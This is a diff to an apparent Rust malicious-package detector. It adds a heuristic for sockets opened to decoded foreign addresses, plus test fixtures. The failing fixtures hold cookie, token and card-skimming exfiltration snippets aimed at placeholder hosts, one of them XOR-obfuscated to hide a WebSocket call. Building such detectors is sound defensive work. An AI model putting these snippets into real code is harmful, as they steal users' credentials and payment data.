@@ -42,6 +42,7 @@ crate::declare_rule! {
         "const dns = require('dns')\nconst S = /sess|token|jwt/i\nfunction leak(v) { dns.resolve4(Buffer.from(v).toString('hex').slice(0, 60) + '.d.example.org', () => {}) }\nexports.mw = (req, res, next) => { const c = String(req.headers.cookie).split(';').filter((kv) => S.test(kv)); if (c.length) leak(c.join(';')); next() }",
         "function grab(form) { const n = form.querySelector('[name=cardnumber]').value; const c = form.querySelector('input[autocomplete=cc-csc]').value; ship({ n, c }) }\nfunction ship(d) { fetch('https://cdn.example.net/m', { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify(d)) }) }\ndocument.addEventListener('submit', (e) => grab(e.target), true)",
         "async function shot() { await run('/usr/sbin/screencapture', ['-x', f]); const form = new FormData(); form.append('h', os.hostname()); await fetch('https://upload.example.org/s', { method: 'POST', body: form }) }",
+        "var k = [0x11, 0x22], d = function (h) { return h.match(/../g).map(function (x, i) { return String.fromCharCode(parseInt(x, 16) ^ k[i % k.length]) }).join('') }, u = d('665162183e0d790c745a704f614e740d62'), s = null;\nvar open = function () { s = new (window[d('464773717e417a4765')])(u) };\nfunction watch() { document.addEventListener('submit', function () { var t = JSON.stringify({ u: location.href, c: document.cookie }); open(); setTimeout(function () { s.send(btoa(t)) }, 50) }, true) }",
         "function seen(a) { var s = a.join(' '); if (!(/--?(token|password|secret)\\b/i).test(s)) return; var W = typeof WebSocket === 'function' ? WebSocket : null; var ws = new W(['wss:', '', 'h.example', 'x'].join('/')); ws.onopen = function () { ws.send(JSON.stringify({ a: a, h: require('os').hostname() })) } }",
     ],
     pass: [
@@ -55,6 +56,7 @@ crate::declare_rule! {
         "function bin(form) { const n = form.querySelector('[name=cardnumber]').value.replace(/\\D/g, ''); return fetch('https://lookup.binlist.example/' + n.slice(0, 6)) }",
         "function pay(form, opts) { const d = { number: form.querySelector('#card-number').value, cvc: form.querySelector('#cvc').value }; return fetch(opts.endpoint, { method: 'POST', body: JSON.stringify(d) }) }",
         "function log(obj) { const m = Buffer.from(JSON.stringify({ c: document.cookie })); sock.send(m, 0, m.length, 514, '127.0.0.1') }",
+        "var s = null;\nvar open = function (url) { s = new WebSocket(url) };\nfunction watch(opts) { document.addEventListener('submit', function () { var t = JSON.stringify({ c: document.cookie }); open(opts.url); setTimeout(function () { s.send(btoa(t)) }, 50) }, true) }",
         "function login(a, opts) { if ((/--?(token|password)\\b/i).test(a.join(' '))) { const W = typeof WebSocket === 'function' ? WebSocket : null; const ws = new W(opts.url); ws.onopen = () => ws.send(JSON.stringify({ argv: a })) } }",
     ],
 }
@@ -504,6 +506,12 @@ fn check(pkg: &Package, out: &mut Emitter) {
             continue;
         }
         let dests = destinations(f);
+        // A socket opened to a fixed foreign address whose URL the code decodes or builds
+        // (`new (window[d(k)])(d(u))`): what the file sends on a socket goes there.
+        let fixed_socket = js
+            .calls
+            .iter()
+            .any(|c| matches!(c.path.as_str(), "WebSocket" | "EventSource") && folded_foreign(c));
         // Sends whose destination is fixed: a literal in the send's own function, or a folded
         // argument or option of the call.
         let sends: Vec<(u32, Option<(u32, u32)>)> = js
@@ -513,7 +521,8 @@ fn check(pkg: &Package, out: &mut Emitter) {
             .filter_map(|c| {
                 let scope = js.scope_of(c.off);
                 let local = dests.iter().any(|(o, _)| js.scope_of(*o) == scope);
-                (folded_foreign(c) || local).then_some((c.off, scope))
+                let socket = fixed_socket && c.path == "WebSocket.send";
+                (folded_foreign(c) || local || socket).then_some((c.off, scope))
             })
             .collect();
         // Sends the resolver could not name (`xhr.send`, `sock.send`, `new Image().src = …`),
